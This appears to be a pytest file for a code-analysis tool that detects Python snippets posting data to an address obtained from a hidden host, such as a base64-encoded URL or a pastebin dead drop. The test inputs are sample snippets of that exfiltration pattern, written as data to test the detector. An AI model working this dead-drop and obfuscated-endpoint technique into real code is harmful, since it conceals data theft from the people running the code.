"""Addresses that come from an answer of a hidden or anonymous host."""

import pytest

from tests.analysis.languages.python.reading import facts

HIDDEN = "base64.b64decode('aHR0cHM6Ly9mYXIuaW52YWxpZC9zZXR0aW5ncw==').decode()"
HEAD = "import base64, requests\nfrom requests import get, post\n"


def answered(source: str) -> list[str | None]:
    return [use.argument for use in facts(HEAD + source).uses if use.api == "answered-address"]


@pytest.mark.parametrize(
    "source",
    [
        f"post(get({HIDDEN}).text.strip(), json={{'b': 1}})",
        f"a = get({HIDDEN})\nb = a.json()\nc = b['url']\nrequests.post(c, data=d)",
        f"def ask():\n  answer = get({HIDDEN})\n  return answer.json()['url']\ndef send(to): post(to, data=d)\nsend(ask())",
        f"def send(where, what): post(get(where).text, json=what)\nsend({HIDDEN}, 1)",
        f"requests.get(str(get({HIDDEN}).content))",
    ],
)
def test_an_address_that_a_hidden_host_answers_with_is_told(source: str) -> None:
    assert ["https://far.invalid/settings"] == answered(source)


def test_so_is_one_that_a_host_of_pastes_answers_with() -> None:
    assert ["https://pastebin.com/raw/inert"] == answered(
        "post(get('https://pastebin.com/raw/inert').text, data=d)"
    )


@pytest.mark.parametrize(
    "source",
    [
        "get(get('https://api.acme.invalid/pages').json()['next'])",
        "post(get('https://api.acme.invalid/upload').json()['url'], data=d)",
        "a = get(base)\npost(a.json()['url'], data=d)",
        f"post({HIDDEN}, data=d)",
        f"post('https://acme.invalid/', data=get({HIDDEN}).text)",
        "a = get(a)\npost(a.text)",
    ],
)
def test_clients_follow_the_addresses_of_their_servers(source: str) -> None:
    assert [] == answered(source)
